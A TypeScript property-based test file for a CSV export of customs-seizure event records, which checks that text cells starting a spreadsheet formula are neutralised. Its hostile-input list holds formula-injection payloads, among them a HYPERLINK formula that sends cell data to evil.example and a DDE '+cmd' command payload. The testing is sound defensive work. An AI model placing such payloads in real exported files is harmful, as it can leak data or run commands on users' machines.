import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { EventRow } from '../board/BoardQuery.ts';
import { FORMULA_PAYLOADS, readStrictCsv, referenceFormulaLike } from '../csv/csvTestSupport.ts';
import { CATEGORY_KEYS } from '../domain/categories.ts';
import { formatUtc8Iso } from '../domain/formatUtc8.ts';
import { RECORD_KINDS } from '../domain/recordKinds.ts';
import { TRANSPORT_MODES } from '../domain/transportModes.ts';
import { LOCALES } from '../i18n/locales.ts';
import { eventCsvTable } from './eventCsvTable.ts';
import { exportCsvPieces } from './exportCsvPieces.ts';

/** What a reader must get back for a text cell: the text, with one `'` before it exactly when it is formula-like. */
const asRead = (text: string): string => (referenceFormulaLike(text) ? `'${text}` : text);

/** Feed text an attacker or a busy clerk might write. */
const HOSTILE: readonly string[] = [
  ...FORMULA_PAYLOADS,
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'say "hi", then leave',
  'two\nlines\r\nand more',
  '走私香烟，罗湖口岸查获',
  '走私香煙,羅湖口岸查獲 "大量"',
  '',
];

/** Columns that hold numbers the app computed: severity, value, weight, latitude, longitude. */
const NUMBER_COLUMNS = new Set([5, 8, 13, 16, 17]);

const hostileText = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 12 }), fc.string({ unit: 'binary', maxLength: 8 }));

const eventRow: fc.Arbitrary<EventRow> = fc.record({
  source: hostileText,
  id: hostileText,
  time: fc.integer({ min: Date.parse('2020-01-01T00:00:00Z'), max: Date.parse('2030-01-01T00:00:00Z') }),
  category: fc.constantFrom(...CATEGORY_KEYS),
  kind: fc.constantFrom(...RECORD_KINDS),
  severity: fc.integer({ min: 1, max: 5 }),
  grading: fc.option(fc.constantFrom('A1', 'B2', 'F6', 'C3')),
  mode: fc.option(fc.constantFrom(...TRANSPORT_MODES)),
  valueCny: fc.option(fc.double({ min: -1e9, max: 1e12, noNaN: true })),
  site: fc.option(fc.oneof(fc.constant('lo_wu_control_point'), hostileText)),
  channel: fc.option(hostileText),
  weight: fc.double({ min: 0, max: 1000, noNaN: true }),
  description: hostileText,
  links: fc.array(hostileText, { maxLength: 3 }),
  lon: fc.double({ min: 111, max: 116, noNaN: true }),
  lat: fc.double({ min: 21, max: 24.5, noNaN: true }),
});

describe('eventCsvTable', () => {
  it('writes every field of every event; hostile text comes back neutralised and otherwise intact', () => {
    fc.assert(
      fc.property(fc.array(eventRow, { maxLength: 20 }), fc.constantFrom(...LOCALES), (events, locale) => {
        const text = exportCsvPieces(eventCsvTable(events, locale)).join('');
        expect(text.charCodeAt(0)).toBe(0xfeff);
        const [header, ...rows] = readStrictCsv(text.slice(1));
        expect(header).toHaveLength(18);
        expect(rows).toHaveLength(events.length);
        rows.forEach((row, k) => {
          const event = events[k];
          expect(row[0]).toBe(asRead(event.source));
          expect(row[1]).toBe(asRead(event.id));
          expect(row[2]).toBe(formatUtc8Iso(event.time));
          expect(Date.parse(row[2])).toBe(event.time);
          expect(row[5]).toBe(String(event.severity));
          expect(row[6]).toBe(event.grading ?? '');
          expect(row[8]).toBe(event.valueCny === null ? '' : String(event.valueCny));
          expect(row[9]).toBe(event.site === null ? '' : asRead(event.site));
          expect(row[11]).toBe(event.channel === null ? '' : asRead(event.channel));
          expect(Number(row[13])).toBe(event.weight);
          expect(row[14]).toBe(asRead(event.description));
          expect(row[15]).toBe(asRead(event.links.join('; ')));
          expect(Number(row[16])).toBe(event.lat);
          expect(Number(row[17])).toBe(event.lon);
          // No text field can start a formula (numbers we computed are written as number literals, `-3.5` included).
          row.filter((_, column) => !NUMBER_COLUMNS.has(column)).forEach((field) => expect(referenceFormulaLike(field)).toBe(false));
        });
      }),
      { numRuns: 150 },
    );
  });

  it('names categories, kinds, modes and reference sites in the board language', () => {
    const row: EventRow = {
      source: 'GD',
      id: '=HYPERLINK("http://evil.example","x")',
      time: Date.parse('2026-11-20T12:34:56+08:00'),
      category: 'tobacco',
      kind: 'seizure',
      severity: 4,
      grading: 'B2',
      mode: 'land',
      valueCny: 125000,
      site: 'lo_wu_control_point',
      channel: null,
      weight: 0.5,
      description: '+cmd 走私香煙\n第二行',
      links: ['HK:A-1', 'MO:=2'],
      lon: 114.11,
      lat: 22.53,
    };
    const [header, line] = readStrictCsv(exportCsvPieces(eventCsvTable([row], 'zh-Hant')).join('').slice(1));
    expect(header.slice(0, 4)).toEqual(['來源機構', '記錄編號', '時間（UTC+8）', '類別']);
    expect(line).toEqual([
      'GD',
      `'=HYPERLINK("http://evil.example","x")`,
      '2026-11-20T12:34:56+08:00',
      '香煙',
      '查獲',
      '4',
      'B2',
      '陸路',
      '125000',
      'lo_wu_control_point',
      '羅湖管制站',
      '',
      '',
      '0.5',
      "'+cmd 走私香煙\n第二行",
      'HK:A-1; MO:=2',
      '22.53',
      '114.11',
    ]);
  });
});
